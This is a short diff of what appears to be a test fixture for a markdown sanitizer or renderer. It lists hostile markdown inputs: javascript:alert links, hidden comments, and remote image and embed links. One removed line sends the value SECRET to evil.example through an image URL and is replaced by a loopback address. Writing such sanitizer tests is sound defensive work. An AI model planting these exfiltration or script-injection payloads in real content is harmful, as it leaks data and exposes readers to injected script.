@@ -46,7 +46,7 @@ _BODIES = {
     "obsidian scheme link": "[open](obsidian://open?vault=x&file=y)",
     "angle-bracket link": "[x](<javascript:alert(1)>) and <javascript:alert(3)>",
     "reference link definition": "[x]: javascript:alert(1)\n\nSee [x] now.",
-    "remote image": "![exfil](https://evil.example/collect?data=SECRET)",
+    "remote image": "![exfil](http://127.0.0.1:9/collect?data=SECRET)",  # downloads are on: loopback, refused
     "remote embed": "![[https://evil.example/a.png]] embedded",
     "html comment": "<!-- hidden --> visible",
     "obsidian comment": "%% a hidden comment %% and %% an unclosed one",
